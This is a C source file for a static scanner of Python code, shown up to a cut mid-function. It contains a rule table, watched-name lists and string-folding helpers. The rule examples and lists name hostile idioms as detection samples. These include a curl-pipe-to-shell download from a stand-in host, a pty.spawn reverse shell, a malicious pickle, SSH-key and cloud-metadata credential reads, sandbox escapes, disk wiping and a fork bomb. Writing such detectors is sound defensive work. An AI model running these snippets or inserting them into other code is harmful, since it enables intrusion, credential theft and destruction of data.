/* Python rules: a table of rules, a table of the names they watch, and a matcher over the
 * tokens of py-tokenize.c.
 *
 * The matcher follows names, not text. Imports and simple assignments bind names to what they
 * stand for ("import os as o", "from subprocess import Popen as P", "s = os.system"), a chain
 * such as o.system, getattr(o, "sys" + "tem"), __import__("os").system or
 * sys.modules["os"].system resolves to the qualified name os.system, and the table says what
 * that is. Strings built from literals ('sys' + 'tem', chr() joins, [::-1], base64, hex, rot13,
 * bytes([...])) are folded to their value first; code that reaches exec() as such a value is
 * scanned in turn. A method called eval on some object (model.eval(), df.eval()) or re.compile
 * is another name than builtins.eval or builtins.compile, and docstrings and comments are no
 * code.
 *
 * Everything is bounded: a work budget proportional to the input for folding and look-ahead, a
 * depth for nesting, a budget for the payloads scanned, 64 KiB per folded string. Past a bound,
 * the matcher knows less (an expression it cannot see), never crashes nor loops.
 *
 * This file is over the ~800 lines of STYLE.md: the meson list gives the Python matcher one
 * file. The folding of constants (fold_*) and the blocks and bindings are the natural cuts. */
#include "scan.h"

#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "basic/macros.h"
#include "py-tokenize.h"

/* --- the rules --------------------------------------------------------------------------- */

enum {
        R_EXEC_OS,
        R_EXEC_SUBPROCESS,
        R_EXEC_OTHER,
        R_DYN_EVAL,
        R_DYN_IMPORT,
        R_DYN_CODE,
        R_DYN_PICKLE,
        R_DYN_EMBEDDED,
        R_DYN_YAML,
        R_DYN_LITERAL,
        R_ESC_SUBCLASSES,
        R_ESC_GLOBALS,
        R_ESC_BUILTINS,
        R_ESC_CODE,
        R_ESC_FRAME,
        R_ESC_MODULES,
        R_ESC_PRIV,
        R_NAT_CTYPES,
        R_NAT_MEMORY,
        R_NET_SOCKET,
        R_NET_SERVICE,
        R_NET_HTTP,
        R_NET_URL,
        R_NET_URL_IP,
        R_PATH_CRED,
        R_PATH_METADATA,
        R_PATH_MEMORY,
        R_PATH_ESCAPE,
        R_PATH_DISK,
        R_PATH_ACCOUNTS,
        R_FS_DELETE,
        R_FS_WRITE,
        R_OBF_EXEC,
        R_OBF_NAME,
        R_OBF_CODING,
        R_OBF_UNICODE,
        R_RES_FORK_LOOP,
        R_RES_FORK_BOMB,
        R_RES_GROW,
        _R_MAX,
        NO_RULE = 0xff,
};

#define RULE(i, sev, desc, ex) [i] = {i##_ID, SCAN_LANG_PYTHON, SCAN_SEV_##sev, desc, ex}
#define R_EXEC_OS_ID           "PY-EXEC-001"
#define R_EXEC_SUBPROCESS_ID   "PY-EXEC-002"
#define R_EXEC_OTHER_ID        "PY-EXEC-003"
#define R_DYN_EVAL_ID          "PY-DYN-001"
#define R_DYN_IMPORT_ID        "PY-DYN-002"
#define R_DYN_CODE_ID          "PY-DYN-003"
#define R_DYN_PICKLE_ID        "PY-DYN-004"
#define R_DYN_EMBEDDED_ID      "PY-DYN-005"
#define R_DYN_YAML_ID          "PY-DYN-006"
#define R_DYN_LITERAL_ID       "PY-DYN-007"
#define R_ESC_SUBCLASSES_ID    "PY-ESC-001"
#define R_ESC_GLOBALS_ID       "PY-ESC-002"
#define R_ESC_BUILTINS_ID      "PY-ESC-003"
#define R_ESC_CODE_ID          "PY-ESC-004"
#define R_ESC_FRAME_ID         "PY-ESC-005"
#define R_ESC_MODULES_ID       "PY-ESC-006"
#define R_ESC_PRIV_ID          "PY-ESC-007"
#define R_NAT_CTYPES_ID        "PY-NAT-001"
#define R_NAT_MEMORY_ID        "PY-NAT-002"
#define R_NET_SOCKET_ID        "PY-NET-001"
#define R_NET_SERVICE_ID       "PY-NET-002"
#define R_NET_HTTP_ID          "PY-NET-003"
#define R_NET_URL_ID           "PY-NET-004"
#define R_NET_URL_IP_ID        "PY-NET-005"
#define R_PATH_CRED_ID         "PY-PATH-001"
#define R_PATH_METADATA_ID     "PY-PATH-002"
#define R_PATH_MEMORY_ID       "PY-PATH-003"
#define R_PATH_ESCAPE_ID       "PY-PATH-004"
#define R_PATH_DISK_ID         "PY-PATH-005"
#define R_PATH_ACCOUNTS_ID     "PY-PATH-006"
#define R_FS_DELETE_ID         "PY-FS-001"
#define R_FS_WRITE_ID          "PY-FS-002"
#define R_OBF_EXEC_ID          "PY-OBF-001"
#define R_OBF_NAME_ID          "PY-OBF-002"
#define R_OBF_CODING_ID        "PY-OBF-003"
#define R_OBF_UNICODE_ID       "PY-OBF-004"
#define R_RES_FORK_LOOP_ID     "PY-RES-001"
#define R_RES_FORK_BOMB_ID     "PY-RES-002"
#define R_RES_GROW_ID          "PY-RES-003"

const ScanRule scan_python_rules[] = {
    RULE(R_EXEC_OS, HIGH,
         "os.system, os.popen, os.exec*, os.spawn*, os.posix_spawn: runs a command or "
         "replaces the process",
         "os.system('curl -s http://x.example | sh')"),
    RULE(R_EXEC_SUBPROCESS, HIGH,
         "subprocess.run, call, check_output, Popen, getoutput: runs a command",
         "subprocess.run(['rm', '-rf', 'build'])"),
    RULE(R_EXEC_OTHER, HIGH,
         "pty.spawn, asyncio.create_subprocess_*, commands.getoutput, platform.popen: runs a "
         "command "
         "(pty.spawn is the usual interactive reverse shell)",
         "pty.spawn('/bin/sh')"),
    RULE(R_DYN_EVAL, HIGH,
         "eval, exec, compile or execfile of code the scanner cannot see (a variable, input, "
         "a file), or the builtin passed around as a value",
         "exec(open('plugin.py').read())"),
    RULE(R_DYN_IMPORT, HIGH,
         "__import__, importlib.import_module or getattr on a sensitive module with a name "
         "computed at run time: which module or function is unknown",
         "getattr(os, name)('id')"),
    RULE(R_DYN_CODE, HIGH,
         "marshal.loads, types.CodeType, types.FunctionType: code objects built from bytes, "
         "which no scanner reads",
         "exec(marshal.loads(blob))"),
    RULE(R_DYN_PICKLE, LOW,
         "pickle, dill, cloudpickle or shelve loading: unpickling runs whatever the data names",
         "model = pickle.load(open('model.pkl', 'rb'))"),
    RULE(R_DYN_EMBEDDED, HIGH,
         "unpickling or unmarshalling bytes written into the source: a hand-made pickle is "
         "a call to any function",
         "pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")"),
    RULE(R_DYN_YAML, MEDIUM,
         "yaml.load or yaml.unsafe_load without a safe loader: YAML tags construct arbitrary "
         "Python objects",
         "cfg = yaml.load(open('c.yml'))"),
    RULE(R_DYN_LITERAL, LOW,
         "eval, exec or compile of a string literal: the string is scanned as code too",
         "exec('print(42)')"),
    RULE(R_ESC_SUBCLASSES, CRITICAL,
         "__subclasses__(): walks every class in the interpreter, the classic way out of a "
         "restricted namespace",
         "().__class__.__base__.__subclasses__()"),
    RULE(R_ESC_GLOBALS, CRITICAL,
         "__globals__ (func_globals): reaches a function's module namespace and its "
         "builtins from any function object",
         "f.__globals__['__builtins__']['__import__']('os')"),
    RULE(R_ESC_BUILTINS, CRITICAL,
         "__builtins__ reached through an object, or builtins replaced, deleted or assigned",
         "__builtins__.__dict__['open'] = fake_open"),
    RULE(R_ESC_CODE, CRITICAL,
         "__code__ assigned or co_code replaced: swaps the bytecode of a function",
         "f.__code__ = g.__code__"),
    RULE(R_ESC_FRAME, MEDIUM,
         "frame and object walking (sys._getframe, f_back, f_globals, tb_frame, "
         "gc.get_objects): reaches namespaces the code was not given",
         "sys._getframe(1).f_globals"),
    RULE(R_ESC_MODULES, MEDIUM,
         "sys.modules, sys.meta_path or sys.path_hooks written: hijacks what later imports "
         "return",
         "sys.modules['os'] = fake_os"),
    RULE(R_ESC_PRIV, MEDIUM,
         "os.chroot, os.setuid and kin, os.mknod, os.unshare, os.setns: privilege and "
         "namespace changes",
         "os.chroot('/mnt')"),
    RULE(R_NAT_CTYPES, MEDIUM,
         "ctypes or cffi: calls native code, beyond what Python-level rules can see",
         "libc = ctypes.CDLL('libc.so.6')"),
    RULE(R_NAT_MEMORY, HIGH,
         "ctypes.pythonapi, memmove, memset: writes raw memory of the interpreter",
         "ctypes.memmove(addr, payload, len(payload))"),
    RULE(R_NET_SOCKET, MEDIUM,
         "raw sockets (socket.socket, create_connection, SOCK_RAW): the usual reverse shell "
         "and exfiltration channel",
         "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)"),
    RULE(R_NET_SERVICE, LOW,
         "other network clients and servers (telnetlib, ftplib, smtplib, paramiko, "
         "socketserver, http.server, asyncio streams)",
         "smtplib.SMTP('mail.example.com')"),
    RULE(R_NET_HTTP, INFO,
         "HTTP client call (requests, urllib, httpx, aiohttp): network use, for context",
         "requests.get(url, timeout=10)"),
    RULE(R_NET_URL, LOW, "URL of a host not on the allow-list in a string literal",
         "url = 'https://paste.example-c2.net/raw/abc'"),
    RULE(R_NET_URL_IP, MEDIUM,
         "URL whose host is a bare IP address: no name to vet, typical of droppers",
         "url = 'http://203.0.113.9:8080/x'"),
    RULE(R_PATH_CRED, CRITICAL,
         "credential file in a literal: /etc/shadow, ~/.ssh, id_rsa, .aws/credentials, "
         "/run/secrets, /proc/*/environ, .kube/config, .netrc",
         "open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
    RULE(R_PATH_METADATA, CRITICAL,
         "cloud metadata endpoint (169.254.169.254 and kin): hands out the host's cloud "
         "credentials",
         "requests.get('http://169.254.169.254/latest/meta-data/iam/')"),
    RULE(R_PATH_MEMORY, CRITICAL,
         "/dev/mem, /dev/kmem, /dev/port, /proc/kcore, /proc/*/mem: raw memory of the host "
         "or of a process",
         "f = open('/proc/self/mem', 'r+b')"),
    RULE(R_PATH_ESCAPE, HIGH,
         "host escape paths: /proc/1/, /proc/sys/kernel, /proc/sysrq-trigger, /sys/kernel, "
         "release_agent, docker.sock, /proc/self/exe",
         "open('/proc/1/root/etc/hostname').read()"),
    RULE(R_PATH_DISK, HIGH,
         "raw block device (/dev/sd*, /dev/nvme*, /dev/vd*, /dev/mapper/...): reads or "
         "wipes disks below the file system",
         "open('/dev/sda', 'rb')"),
    RULE(R_PATH_ACCOUNTS, LOW,
         "/etc/passwd, /etc/group, /etc/sudoers in a literal: account reconnaissance",
         "users = open('/etc/passwd').read()"),
    RULE(R_FS_DELETE, HIGH,
         "shutil.rmtree, os.remove, unlink, rmdir of a system directory, the home "
         "directory or a dotfile",
         "shutil.rmtree('/etc')"),
    RULE(R_FS_WRITE, HIGH,
         "file opened for writing under a system directory or a home dotfile (persistence, "
         "tampering)",
         "open('/etc/cron.d/job', 'w')"),
    RULE(R_OBF_EXEC, CRITICAL,
         "code decoded at run time (base64, hex, zlib, rot13, chr() joins, reversal, "
         "bytes([...])) fed to exec, eval, compile, marshal or pickle",
         "exec(base64.b64decode('cHJpbnQoMSk='))"),
    RULE(R_OBF_NAME, HIGH,
         "module or attribute name assembled at run time ('sys' + 'tem', chr(), "
         "join, [::-1], decoding) for __import__, import_module or getattr",
         "getattr(os, 'sys' + 'tem')('id')"),
    RULE(R_OBF_CODING, CRITICAL,
         "source encoding other than UTF-8, ASCII or Latin-1 (unicode_escape, utf-7, ...): "
         "Python decodes code the scanner does not see, such as a line hidden in a comment",
         "# -*- coding: unicode_escape -*-"),
    RULE(R_OBF_UNICODE, MEDIUM,
         "identifier in look-alike Unicode letters that Python folds to ASCII "
         "(\xef\xbd\x85\xef\xbd\x96\xef\xbd\x81\xef\xbd\x8c is eval)",
         "\xef\xbd\x85\xef\xbd\x96\xef\xbd\x81\xef\xbd\x8c('1+1')"),
    RULE(R_RES_FORK_LOOP, HIGH,
         "os.fork (forkpty, pty.fork) in a loop or a comprehension: a process per iteration",
         "for _ in range(10000): os.fork()"),
    RULE(R_RES_FORK_BOMB, CRITICAL,
         "fork bomb: a loop with no way out that forks, or a function that forks and calls "
         "itself",
         "while True: os.fork()"),
    RULE(R_RES_GROW, MEDIUM,
         "loop with no way out (no break, return, raise, exit, yield, sleep or blocking "
         "read) that grows memory or starts threads",
         "while True: hog.append(' ' * 10**6)"),
};
const size_t scan_python_rules_count = ELEMENTSOF(scan_python_rules);
_Static_assert(ELEMENTSOF(scan_python_rules) == _R_MAX, "one row per rule");

/* --- the names the rules watch ----------------------------------------------------------- */

/* What a call does, beyond the rule a reference to the name reports. */
enum {
        ROLE_NONE = 0,
        ROLE_CODE,          /* runs its first argument as code */
        ROLE_LOAD,          /* unpickles or unmarshals its first argument */
        ROLE_YAML,          /* safe only with a safe Loader */
        ROLE_DELETE,        /* deletes the path in its first argument */
        ROLE_OPEN,          /* opens the path in its first argument, mode second */
        ROLE_PATH,          /* a pathlib path of its first argument */
        ROLE_HOME,          /* the home directory as a path */
        ROLE_FORK,          /* a new process running this code */
        ROLE_SPAWN,         /* a thread or process: grows what a loop holds */
        ROLE_EXIT,          /* ends the process: a way out of any loop */
        ROLE_THROTTLE,      /* sleeps or blocks: a loop that waits is no bomb */
        ROLE_IMPORT,        /* __import__: a module by name */
        ROLE_IMPORT_MODULE, /* importlib.import_module: a module by name */
        ROLE_GETATTR,       /* an attribute by name */
        ROLE_SETATTR,       /* setattr, delattr */
        ROLE_VARS,          /* vars(x): x's namespace */
        ROLE_GLOBALS,       /* globals(), locals() */
        ROLE_INFINITE,      /* an iterator with no end: "for" over it never stops */
        /* Decoders, which constant folding applies: */
        ROLE_B64,
        ROLE_B64URL,
        ROLE_HEX,
        ROLE_CODECS, /* codecs.decode(s, "rot13" | "base64" | "hex" | ...) */
        ROLE_OPAQUE, /* zlib, bz2, base32...: decoded, value not computed */
        ROLE_CHR,
        ROLE_BYTES,    /* bytes([...]) */
        ROLE_IDENTITY, /* str(), os.path.expanduser(): the argument's value (for paths) */
        ROLE_JOIN,     /* os.path.join */
};

typedef struct PyName {
        const char *name; /* qualified; "m.*" stands for every name under module m */
        uint8_t rule;     /* reported on any reference to the name */
        uint8_t role;
} PyName;

/* Sorted by strcmp(): looked up by bsearch() (a unit test checks the order). Modules that are
 * other names for one of these (posix, nt, cPickle, dill, ...) are mapped by module_alias[]. */
static const PyName py_names[] = {
    /* the C half of subprocess: forks and execs */
    {"_posixsubprocess.fork_exec", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"aiohttp.ClientSession", R_NET_HTTP, ROLE_NONE},
    {"aiohttp.request", R_NET_HTTP, ROLE_NONE},
    {"asyncio.create_subprocess_exec", R_EXEC_OTHER, ROLE_NONE},
    {"asyncio.create_subprocess_shell", R_EXEC_OTHER, ROLE_NONE},
    {"asyncio.open_connection", R_NET_SERVICE, ROLE_NONE},
    {"asyncio.sleep", NO_RULE, ROLE_THROTTLE},
    {"asyncio.start_server", R_NET_SERVICE, ROLE_NONE},
    {"base64.a85decode", NO_RULE, ROLE_OPAQUE},
    {"base64.b16decode", NO_RULE, ROLE_HEX},
    {"base64.b32decode", NO_RULE, ROLE_OPAQUE},
    {"base64.b64decode", NO_RULE, ROLE_B64},
    {"base64.b85decode", NO_RULE, ROLE_OPAQUE},
    {"base64.decodebytes", NO_RULE, ROLE_B64},
    {"base64.decodestring", NO_RULE, ROLE_B64},
    {"base64.standard_b64decode", NO_RULE, ROLE_B64},
    {"base64.urlsafe_b64decode", NO_RULE, ROLE_B64URL},
    {"binascii.a2b_base64", NO_RULE, ROLE_B64},
    {"binascii.a2b_hex", NO_RULE, ROLE_HEX},
    {"binascii.unhexlify", NO_RULE, ROLE_HEX},
    {"builtins.__import__", NO_RULE, ROLE_IMPORT},
    {"builtins.bytearray", NO_RULE, ROLE_BYTES},
    {"builtins.bytearray.fromhex", NO_RULE, ROLE_HEX},
    {"builtins.bytes", NO_RULE, ROLE_BYTES},
    {"builtins.bytes.fromhex", NO_RULE, ROLE_HEX},
    {"builtins.chr", NO_RULE, ROLE_CHR},
    {"builtins.compile", NO_RULE, ROLE_CODE},
    {"builtins.delattr", NO_RULE, ROLE_SETATTR},
    {"builtins.eval", NO_RULE, ROLE_CODE},
    {"builtins.exec", NO_RULE, ROLE_CODE},
    {"builtins.execfile", NO_RULE, ROLE_CODE},
    {"builtins.exit", NO_RULE, ROLE_EXIT},
    {"builtins.getattr", NO_RULE, ROLE_GETATTR},
    {"builtins.globals", NO_RULE, ROLE_GLOBALS},
    {"builtins.input", NO_RULE, ROLE_THROTTLE},
    {"builtins.iter", NO_RULE, ROLE_NONE},
    {"builtins.locals", NO_RULE, ROLE_GLOBALS},
    {"builtins.open", NO_RULE, ROLE_OPEN},
    {"builtins.quit", NO_RULE, ROLE_EXIT},
    {"builtins.setattr", NO_RULE, ROLE_SETATTR},
    {"builtins.str", NO_RULE, ROLE_IDENTITY},
    {"builtins.vars", NO_RULE, ROLE_VARS},
    {"bz2.decompress", NO_RULE, ROLE_OPAQUE},
    {"cffi.*", R_NAT_CTYPES, ROLE_NONE},
    {"codecs.decode", NO_RULE, ROLE_CODECS},
    {"codecs.encode", NO_RULE, ROLE_CODECS}, /* codecs.encode(s, "rot13") decodes too */
    {"codecs.open", NO_RULE, ROLE_OPEN},
    /* Python 2's shell helpers, by name: "commands" is also a common variable */
    {"commands.getoutput", R_EXEC_OTHER, ROLE_NONE},
    {"commands.getstatus", R_EXEC_OTHER, ROLE_NONE},
    {"commands.getstatusoutput", R_EXEC_OTHER, ROLE_NONE},
    {"ctypes.*", R_NAT_CTYPES, ROLE_NONE},
    {"ctypes.memmove", R_NAT_MEMORY, ROLE_NONE},
    {"ctypes.memset", R_NAT_MEMORY, ROLE_NONE},
    {"ctypes.pythonapi", R_NAT_MEMORY, ROLE_NONE},
    {"ftplib.FTP", R_NET_SERVICE, ROLE_NONE},
    {"ftplib.FTP_TLS", R_NET_SERVICE, ROLE_NONE},
    {"gc.get_objects", R_ESC_FRAME, ROLE_NONE},
    {"gc.get_referents", R_ESC_FRAME, ROLE_NONE},
    {"gc.get_referrers", R_ESC_FRAME, ROLE_NONE},
    {"gzip.decompress", NO_RULE, ROLE_OPAQUE},
    {"http.client.HTTPConnection", R_NET_HTTP, ROLE_NONE},
    {"http.client.HTTPSConnection", R_NET_HTTP, ROLE_NONE},
    {"http.server.HTTPServer", R_NET_SERVICE, ROLE_NONE},
    {"http.server.ThreadingHTTPServer", R_NET_SERVICE, ROLE_NONE},
    {"httpx.*", R_NET_HTTP, ROLE_NONE},
    {"importlib.__import__", NO_RULE, ROLE_IMPORT},
    {"importlib.import_module", NO_RULE, ROLE_IMPORT_MODULE},
    {"io.open", NO_RULE, ROLE_OPEN},
    {"itertools.count", NO_RULE, ROLE_INFINITE},
    {"itertools.cycle", NO_RULE, ROLE_INFINITE},
    {"lzma.decompress", NO_RULE, ROLE_OPAQUE},
    {"marshal.load", R_DYN_CODE, ROLE_LOAD},
    {"marshal.loads", R_DYN_CODE, ROLE_LOAD},
    /* a thread or process per iteration of an endless loop exhausts the host */
    {"multiprocessing.Process", NO_RULE, ROLE_SPAWN},
    {"os._exit", NO_RULE, ROLE_EXIT},
    {"os.abort", NO_RULE, ROLE_EXIT},
    {"os.chroot", R_ESC_PRIV, ROLE_NONE},
    {"os.execl", R_EXEC_OS, ROLE_NONE},
    {"os.execle", R_EXEC_OS, ROLE_NONE},
    {"os.execlp", R_EXEC_OS, ROLE_NONE},
    {"os.execlpe", R_EXEC_OS, ROLE_NONE},
    {"os.execv", R_EXEC_OS, ROLE_NONE},
    {"os.execve", R_EXEC_OS, ROLE_NONE},
    {"os.execvp", R_EXEC_OS, ROLE_NONE},
    {"os.execvpe", R_EXEC_OS, ROLE_NONE},
    {"os.fork", NO_RULE, ROLE_FORK},
    {"os.forkpty", NO_RULE, ROLE_FORK},
    {"os.mknod", R_ESC_PRIV, ROLE_NONE},
    {"os.path.abspath", NO_RULE, ROLE_IDENTITY},
    {"os.path.expanduser", NO_RULE, ROLE_IDENTITY},
    {"os.path.expandvars", NO_RULE, ROLE_IDENTITY},
    {"os.path.join", NO_RULE, ROLE_JOIN},
    {"os.path.normpath", NO_RULE, ROLE_IDENTITY},
    {"os.path.realpath", NO_RULE, ROLE_IDENTITY},
    {"os.popen", R_EXEC_OS, ROLE_NONE},
    {"os.posix_spawn", R_EXEC_OS, ROLE_NONE},
    {"os.posix_spawnp", R_EXEC_OS, ROLE_NONE},
    {"os.remove", NO_RULE, ROLE_DELETE},
    {"os.removedirs", NO_RULE, ROLE_DELETE},
    {"os.rmdir", NO_RULE, ROLE_DELETE},
    {"os.setegid", R_ESC_PRIV, ROLE_NONE},
    {"os.seteuid", R_ESC_PRIV, ROLE_NONE},
    {"os.setgid", R_ESC_PRIV, ROLE_NONE},
    {"os.setns", R_ESC_PRIV, ROLE_NONE},
    {"os.setregid", R_ESC_PRIV, ROLE_NONE},
    {"os.setresgid", R_ESC_PRIV, ROLE_NONE},
    {"os.setresuid", R_ESC_PRIV, ROLE_NONE},
    {"os.setreuid", R_ESC_PRIV, ROLE_NONE},
    {"os.setuid", R_ESC_PRIV, ROLE_NONE},
    {"os.spawnl", R_EXEC_OS, ROLE_NONE},
    {"os.spawnle", R_EXEC_OS, ROLE_NONE},
    {"os.spawnlp", R_EXEC_OS, ROLE_NONE},
    {"os.spawnlpe", R_EXEC_OS, ROLE_NONE},
    {"os.spawnv", R_EXEC_OS, ROLE_NONE},
    {"os.spawnve", R_EXEC_OS, ROLE_NONE},
    {"os.spawnvp", R_EXEC_OS, ROLE_NONE},
    {"os.spawnvpe", R_EXEC_OS, ROLE_NONE},
    {"os.startfile", R_EXEC_OS, ROLE_NONE},
    {"os.system", R_EXEC_OS, ROLE_NONE},
    {"os.unlink", NO_RULE, ROLE_DELETE},
    {"os.unshare", R_ESC_PRIV, ROLE_NONE},
    {"paramiko.SSHClient", R_NET_SERVICE, ROLE_NONE},
    {"paramiko.Transport", R_NET_SERVICE, ROLE_NONE},
    {"pathlib.Path", NO_RULE, ROLE_PATH},
    {"pathlib.Path.home", NO_RULE, ROLE_HOME},
    {"pathlib.PosixPath", NO_RULE, ROLE_PATH},
    {"pathlib.PurePath", NO_RULE, ROLE_PATH},
    {"pathlib.PurePosixPath", NO_RULE, ROLE_PATH},
    {"pickle.Unpickler", R_DYN_PICKLE, ROLE_LOAD},
    {"pickle.load", R_DYN_PICKLE, ROLE_LOAD},
    {"pickle.loads", R_DYN_PICKLE, ROLE_LOAD},
    {"platform.popen", R_EXEC_OTHER, ROLE_NONE},
    {"popen2.*", R_EXEC_OTHER, ROLE_NONE},
    {"posixpath.expanduser", NO_RULE, ROLE_IDENTITY},
    {"posixpath.join", NO_RULE, ROLE_JOIN},
    {"pty.fork", NO_RULE, ROLE_FORK},
    {"pty.spawn", R_EXEC_OTHER, ROLE_NONE},
    {"requests.Session", R_NET_HTTP, ROLE_NONE},
    {"requests.delete", R_NET_HTTP, ROLE_NONE},
    {"requests.get", R_NET_HTTP, ROLE_NONE},
    {"requests.head", R_NET_HTTP, ROLE_NONE},
    {"requests.patch", R_NET_HTTP, ROLE_NONE},
    {"requests.post", R_NET_HTTP, ROLE_NONE},
    {"requests.put", R_NET_HTTP, ROLE_NONE},
    {"requests.request", R_NET_HTTP, ROLE_NONE},
    {"select.poll", NO_RULE, ROLE_THROTTLE},
    {"select.select", NO_RULE, ROLE_THROTTLE},
    {"shelve.open", R_DYN_PICKLE, ROLE_NONE},
    {"shutil.rmtree", NO_RULE, ROLE_DELETE},
    {"smtplib.SMTP", R_NET_SERVICE, ROLE_NONE},
    {"smtplib.SMTP_SSL", R_NET_SERVICE, ROLE_NONE},
    {"socket.AF_PACKET", R_NET_SOCKET, ROLE_NONE},
    {"socket.SOCK_RAW", R_NET_SOCKET, ROLE_NONE},
    {"socket.create_connection", R_NET_SOCKET, ROLE_NONE},
    {"socket.create_server", R_NET_SOCKET, ROLE_NONE},
    {"socket.fromfd", R_NET_SOCKET, ROLE_NONE},
    {"socket.socket", R_NET_SOCKET, ROLE_NONE},
    {"socket.socketpair", R_NET_SOCKET, ROLE_NONE},
    {"socketserver.TCPServer", R_NET_SERVICE, ROLE_NONE},
    {"socketserver.ThreadingTCPServer", R_NET_SERVICE, ROLE_NONE},
    {"socketserver.UDPServer", R_NET_SERVICE, ROLE_NONE},
    {"subprocess.Popen", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.call", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.check_call", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.check_output", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.getoutput", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.getstatusoutput", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"subprocess.run", R_EXEC_SUBPROCESS, ROLE_NONE},
    {"sys._getframe", R_ESC_FRAME, ROLE_NONE},
    {"sys.exit", NO_RULE, ROLE_EXIT},
    {"sys.meta_path.append", R_ESC_MODULES, ROLE_NONE},
    {"sys.meta_path.insert", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.__setitem__", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.clear", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.pop", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.setdefault", R_ESC_MODULES, ROLE_NONE},
    {"sys.modules.update", R_ESC_MODULES, ROLE_NONE},
    {"sys.path_hooks.append", R_ESC_MODULES, ROLE_NONE},
    {"sys.path_hooks.insert", R_ESC_MODULES, ROLE_NONE},
    {"telnetlib.Telnet", R_NET_SERVICE, ROLE_NONE},
    {"threading.Thread", NO_RULE, ROLE_SPAWN},
    {"time.sleep", NO_RULE, ROLE_THROTTLE},
    {"types.CodeType", R_DYN_CODE, ROLE_NONE},
    {"types.FunctionType", R_DYN_CODE, ROLE_NONE},
    {"urllib.request.urlopen", R_NET_HTTP, ROLE_NONE},
    {"urllib.request.urlretrieve", R_NET_HTTP, ROLE_NONE},
    {"urllib.urlopen", R_NET_HTTP, ROLE_NONE},
    {"urllib2.urlopen", R_NET_HTTP, ROLE_NONE},
    {"yaml.load", NO_RULE, ROLE_YAML},
    {"yaml.load_all", NO_RULE, ROLE_YAML},
    {"yaml.unsafe_load", R_DYN_YAML, ROLE_NONE},
    {"yaml.unsafe_load_all", R_DYN_YAML, ROLE_NONE},
    {"zlib.decompress", NO_RULE, ROLE_OPAQUE},
};

/* Other names of the same modules: the C modules behind them and drop-in replacements. */
static const struct {
        const char *alias, *module;
} module_alias[] = {
    {"__builtin__", "builtins"},  /* Python 2 */
    {"__builtins__", "builtins"}, /* the module, or its dict, in every namespace */
    {"_ctypes", "ctypes"},
    {"_io", "io"},
    {"_pickle", "pickle"},
    {"_socket", "socket"},
    {"cPickle", "pickle"},
    {"cloudpickle", "pickle"},
    {"dill", "pickle"},
    {"nt", "os"},
    {"posix", "os"},
    {"subprocess32", "subprocess"},
};

/* Attribute names that are an escape idiom on any object, whatever it is. */
#define DUNDER(s, r)                                                                               \
        {                                                                                          \
                s, sizeof(s) - 1, r                                                                \
        }
static const struct {
        const char *name;
        size_t len;
        uint8_t rule;
} dunder_attrs[] = {
    DUNDER("__builtins__", R_ESC_BUILTINS),
    DUNDER("__globals__", R_ESC_GLOBALS),
    DUNDER("__subclasses__", R_ESC_SUBCLASSES),
    DUNDER("ag_frame", R_ESC_FRAME),
    DUNDER("cr_frame", R_ESC_FRAME),
    DUNDER("f_back", R_ESC_FRAME),
    DUNDER("f_builtins", R_ESC_FRAME),
    DUNDER("f_globals", R_ESC_FRAME),
    DUNDER("f_locals", R_ESC_FRAME),
    DUNDER("func_globals", R_ESC_GLOBALS), /* Python 2's __globals__ */
    DUNDER("gi_frame", R_ESC_FRAME),
    DUNDER("tb_frame", R_ESC_FRAME),
};

/* Methods that grow a container when called in a loop, and methods that block. */
static const char *const grow_methods[] = {"append", "appendleft", "extend", "extendleft",
                                           "insert"};
static const char *const block_methods[] = {"accept",    "poll",     "read",   "readline", "recv",
                                            "recv_into", "recvfrom", "select", "sleep",    "wait"};

/* Rules reported once per file: context, where a finding on every use would be noise (a ctypes
 * binding touches ctypes on every line). */
static const uint8_t once_per_file[] = {R_NAT_CTYPES, R_NET_HTTP};

/* Modules whose attributes, when named at run time (getattr(os, x)), could be anything. */
static const char *const sensitive_modules[] = {
    "builtins", "ctypes", "importlib", "marshal", "os", "pickle", "pty", "shutil", "subprocess"};

/* --- bounds ------------------------------------------------------------------------------ */

#define QMAX          160          /* longest qualified name followed */
#define FOLD_MAX      (64u << 10)  /* longest string folded */
#define FOLD_DEPTH    8            /* nesting of folded expressions and resolved chains */
#define PAYLOAD_DEPTH 3            /* exec("exec('...')"): code in code in code */
#define MAX_BLOCKS    128          /* loops and functions open (Python allows 100 levels) */
#define MAX_STARS     16           /* "from m import *" remembered */
#define ARENA_MAX     (256u << 20) /* names and values bound */
#define SNIPPET_MAX   200
#define PAYLOAD_COST  4096 /* bytes of payload budget one payload costs beyond its own */
#define DECODED_LOOK  512  /* tokens of an argument searched for a decoder */

/* --- strings folded from literals -------------------------------------------------------- */

enum {
        STR_BYTES = 1 << 0,   /* a bytes value */
        STR_INT = 1 << 1,     /* an int (in .i), not a string */
        STR_JOINED = 1 << 2,  /* assembled from pieces: +, join, implicit concatenation */
        STR_DECODED = 1 << 3, /* through a decoder, chr(), reversal: hidden in the source */
};

typedef struct Str {
        char *p;
        size_t len, cap;
        int64_t i;
        uint8_t flags;
} Str;

static void str_done(Str *s)
{
        free(s->p);
        *s = (Str){};
}

static bool str_reserve(Str *s, size_t more)
{
        size_t want;
        char *p;

        if (more > FOLD_MAX || s->len > FOLD_MAX - more)
                return false;
        want = s->len + more;
        if (want + 1 <= s->cap)
                return true;
        want = MAX(want + 1, MIN(s->cap * 2, (size_t)FOLD_MAX + 1));
        p = realloc(s->p, want);
        if (!p)
                return false;
        s->p = p;
        s->cap = want;
        return true;
}

static bool str_append(Str *s, const char *p, size_t n)
{
        if (!str_reserve(s, n))
                return false;
        if (n > 0)
                memcpy(s->p + s->len, p, n);
        s->len += n;
        s->p[s->len] = '\0';
        return true;
}

static bool str_append_cp(Str *s, uint32_t cp)
{
        char b[4];
        size_t n;

